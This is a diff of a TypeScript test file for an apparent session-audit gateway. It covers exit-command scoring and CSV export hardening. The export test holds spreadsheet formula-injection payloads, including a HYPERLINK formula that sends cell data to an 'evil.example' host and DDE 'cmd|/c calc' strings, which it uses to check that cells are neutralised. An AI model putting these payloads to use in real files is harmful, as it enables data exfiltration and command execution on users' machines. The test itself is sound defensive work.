@@ -1,8 +1,7 @@
-import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DATABASE_KINDS } from '../../test/databases.ts';
 import { buildUser, startTestChangegate, type TestChangegate } from '../../test/harness.ts';
-import { findChangeByName, findRequestByNumber } from '../changes/index.ts';
+import { storeSession as storeSessionOf, type StoredCommand } from './review.test-kit.ts';
 
 /**
  * The change audit over stored sessions: what the gateway writes when sessions end is written
@@ -14,55 +13,8 @@ describe.each(DATABASE_KINDS)('the change audit on %s', (kind) => {
 
   /** Stores a finished session of `change` on `device` that ran `commands` (text, output). */
   async function storeSession(change: string, device: string, user: string, startMinute: number, commands: Array<[string, string?]>): Promise<number> {
-    const db = t.cg.database.db;
-    const found = await findChangeByName(db, change);
-    const deviceRow = await db.selectFrom('device').selectAll().where('name', '=', device).executeTakeFirstOrThrow();
-    const userRow = await db.selectFrom('app_user').selectAll().where('username', '=', user).executeTakeFirstOrThrow();
-    const requester = await buildUserIfMissing(user);
-    const outcome = await requester.post('/requests', { device, change });
-    const request = await findRequestByNumber(db, outcome.body.request.number);
-    const id = randomUUID();
-    const row = await db
-      .insertInto('session')
-      .values({
-        id,
-        kind: 'shell',
-        user_id: userRow.id,
-        username: user,
-        source_ip: '192.0.2.7',
-        source_port: 50022,
-        device_id: deviceRow.id,
-        device_name: device,
-        partition_id: deviceRow.partition_id,
-        account: 'root',
-        change_id: found!.id,
-        change_name: change,
-        request_id: request!.id,
-        exec_command: null,
-        term: 'xterm',
-        started_at: at(startMinute),
-        ended_at: at(startMinute + 10),
-        end_reason: 'client_closed',
-        ended_by: null,
-        exit_status: 0,
-        bytes_in: 10,
-        bytes_out: 100,
-        recording_path: `/nonexistent/${id}.cast`,
-        recording_sha256: 'ab'.repeat(32),
-        capture_lossy: false,
-        instance_id: 'test',
-        heartbeat_at: at(startMinute + 10),
-      })
-      .returning('number')
-      .executeTakeFirstOrThrow();
-    for (const [index, [text, output]] of commands.entries()) {
-      await db
-        .insertInto('session_command')
-        .values({ session_id: id, seq: index + 1, time: at(startMinute + index + 1), offset_seconds: 60 * (index + 1), text, output: output ?? '', output_truncated: false, exit_status: 0 })
-        .execute();
-    }
-    await t.cg.services.reviews.recompute(found!.id);
-    return row.number;
+    const client = await buildUserIfMissing(user);
+    return storeSessionOf(t, { change, device, user: { username: user, client }, startMinute, commands: commands.map(([text, output]) => ({ text, ...(output !== undefined && { output }) })) });
   }
 
   const clients = new Map<string, Awaited<ReturnType<typeof buildUser>>['client']>();
@@ -148,7 +100,7 @@ describe.each(DATABASE_KINDS)('the change audit on %s', (kind) => {
 
     const csv = await t.admin.get('/changes/CHG-7/audit/report?format=csv');
     const lines = String(csv.body).trim().split('\r\n');
-    expect(lines[0]).toBe('"change","device","row","kind","script_line","script_step","command","session","time","offset_seconds","exit_status","linked_row"');
+    expect(lines[0]).toBe('"change","device","row","kind","script_line","script_step","command","session","user","time","offset_seconds","exit_status","linked_row"');
     expect(lines).toHaveLength(1 + 5 + 4);
     expect(lines.some((line) => line.includes('"extra"') && line.includes('"rm -rf /tmp/cache"'))).toBe(true);
 
@@ -169,5 +121,124 @@ describe.each(DATABASE_KINDS)('the change audit on %s', (kind) => {
     const denied = await viewer.get('/changes/CHG-7/audit');
     expect(denied.status).toBe(403);
     expect(denied.body.error.message).toContain('Session.View');
+  });
+});
+
+/** RFC 4180 records: quoted fields may hold commas, quotes (doubled), CR and LF. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let k = 0; k < text.length; k++) {
+    const ch = text.charAt(k);
+    if (quoted) {
+      if (ch === '"' && text.charAt(k + 1) === '"') {
+        field += '"';
+        k++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      record.push(field);
+      field = '';
+    } else if (ch === '\r' && text.charAt(k + 1) === '\n') {
+      record.push(field);
+      records.push(record);
+      record = [];
+      field = '';
+      k++;
+    } else field += ch;
+  }
+  return records;
+}
+
+describe.each(DATABASE_KINDS)('the session-closing exit, exit statuses and CSV cells in the change audit on %s', (kind) => {
+  let t: TestChangegate;
+  let dora: Awaited<ReturnType<typeof buildUser>>;
+  const at = (minutes: number) => new Date(t.clock.now().getTime() + minutes * 60_000).toISOString();
+  const store = (change: string, startMinute: number, commands: StoredCommand[], end: { endReason?: 'client_closed' | 'terminated'; exitStatus?: number | null } = {}) =>
+    storeSessionOf(t, { change, device: 'db01', user: dora, startMinute, commands, ...end });
+  const board = async (change: string) => {
+    const audit = await t.admin.get(`/changes/${change}/audit`);
+    expect(audit.status).toBe(200);
+    return { audit: audit.body, rows: audit.body.devices[0].rows.map((row: { kind: string; step: { text: string } | null; command: { text: string } | null }) => `${row.kind} ${row.command?.text ?? row.step?.text}`) };
+  };
+
+  beforeAll(async () => {
+    t = await startTestChangegate(kind, { CHANGEGATE_SESSION_IDLE_MINUTES: '1440' });
+    dora = await buildUser(t, { username: 'dora' });
+    expect((await t.admin.post('/devices', { name: 'db01', hostname: '192.0.2.20' })).status).toBe(201);
+    expect((await t.admin.post('/access-groups', { name: 'dba', executors: ['dora'], approvers: ['admin'] })).status).toBe(201);
+    const changes: Array<[string, string]> = [
+      ['CHG-EXIT', 'uptime\nsystemctl restart postgresql'],
+      ['CHG-SU', 'su - postgres\npsql -c vacuum\nsystemctl restart postgresql'],
+      ['CHG-CUT', 'uptime'],
+      ['CHG-KILLED', 'uptime'],
+      ['CHG-CSV', '=cmd|' + "'/c calc'!A1\n+1\n@SUM(A1)"],
+    ];
+    for (const [name, script] of changes) {
+      const created = await t.admin.post('/changes', { name, title: name, startAt: at(-5), dueAt: at(600), accessGroup: 'dba', devices: ['db01'], script });
+      expect(created.status).toBe(201);
+    }
+  });
+  afterAll(() => t.close());
+
+  it('scores 100, as planned, a session that follows its script exactly and then types exit', async () => {
+    await store('CHG-EXIT', 0, ['uptime', 'systemctl restart postgresql', 'exit']);
+    const { audit, rows } = await board('CHG-EXIT');
+    expect(rows).toEqual(['matched uptime', 'matched systemctl restart postgresql', 'session_end exit']);
+    expect(audit).toMatchObject({ score: 100, outcome: 'as_planned', counts: { extra: 0, matched: 2 } });
+    expect((await t.admin.get('/audit/sessions?change=CHG-EXIT')).body[0]).toMatchObject({ changeScore: 100, changeOutcome: 'as_planned' });
+    const html = String((await t.admin.get('/changes/CHG-EXIT/audit/report?format=html')).body);
+    expect(html).toContain('<tr class="session_end">');
+    expect(html).toContain('ended the session (not counted)');
+  });
+
+  it('counts an exit in the middle of a session (leaving su) as the command it is, and not the closing logout', async () => {
+    await store('CHG-SU', 20, ['su - postgres', 'psql -c vacuum', 'exit', 'systemctl restart postgresql', 'logout']);
+    const { audit, rows } = await board('CHG-SU');
+    expect(rows).toEqual(['matched su - postgres', 'matched psql -c vacuum', 'extra exit', 'matched systemctl restart postgresql', 'session_end logout']);
+    expect(audit).toMatchObject({ score: 75, outcome: 'exceeded' });
+  });
+
+  it('counts a last exit that did not end the session: the user closed the window, or the session was terminated', async () => {
+    await store('CHG-CUT', 40, ['uptime', 'exit'], { exitStatus: null });
+    expect(await board('CHG-CUT')).toMatchObject({ rows: ['matched uptime', 'extra exit'], audit: { score: 50, outcome: 'exceeded' } });
+    await store('CHG-KILLED', 60, ['uptime', 'exit'], { endReason: 'terminated', exitStatus: null });
+    expect(await board('CHG-KILLED')).toMatchObject({ rows: ['matched uptime', 'extra exit'], audit: { score: 50, outcome: 'exceeded' } });
+  });
+
+  it('neutralises in the CSV every cell that a spreadsheet would run, and shows an unknown exit status as unknown', async () => {
+    const typed: StoredCommand[] = [
+      { text: '=HYPERLINK("http://evil.example/?"&A1,"click")', exitStatus: null },
+      { text: '+1', exitStatus: 1 },
+      { text: '-2+3', exitStatus: 0 },
+      { text: '@SUM(1+1)*cmd|/c calc', exitStatus: null },
+      { text: '\t=1+1', exitStatus: null },
+      { text: '\r=1+1', exitStatus: null },
+    ];
+    await store('CHG-CSV', 80, typed);
+    const audit = await t.admin.get('/changes/CHG-CSV/audit');
+    const commands = audit.body.devices[0].rows.filter((row: { command: unknown }) => row.command).map((row: { command: { text: string; exitStatus: number | null } }) => row.command);
+    expect(commands.map((command: { exitStatus: number | null }) => command.exitStatus)).toEqual([null, 1, 0, null, null, null]);
+
+    const csv = await t.admin.get('/changes/CHG-CSV/audit/report?format=csv');
+    expect(csv.headers['content-type']).toContain('text/csv');
+    const [header, ...records] = parseCsv(String(csv.body));
+    const column = (name: string) => (header ?? []).indexOf(name);
+    const cells = records.flatMap((record) => [record[column('script_step')], record[column('command')]]).filter((cell): cell is string => cell !== undefined && cell !== '');
+    expect(cells.length).toBeGreaterThanOrEqual(typed.length + 3);
+    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+    const commandCells = records.map((record) => record[column('command')]).filter(Boolean);
+    expect(commandCells).toEqual(expect.arrayContaining(typed.map((command) => `'${typeof command === 'string' ? command : command.text}`)));
+    expect(records.map((record) => record[column('user')]).filter(Boolean)).toEqual(expect.arrayContaining(['dora']));
+    const statuses = records.filter((record) => record[column('command')]).map((record) => record[column('exit_status')]);
+    expect(statuses).toEqual(expect.arrayContaining(['unknown', '1', '0']));
+    expect(statuses).not.toContain('');
+
+    const html = String((await t.admin.get('/changes/CHG-CSV/audit/report?format=html')).body);
+    expect(html).toContain('exit unknown');
+    expect(html).toContain('exit 1');
   });
 });
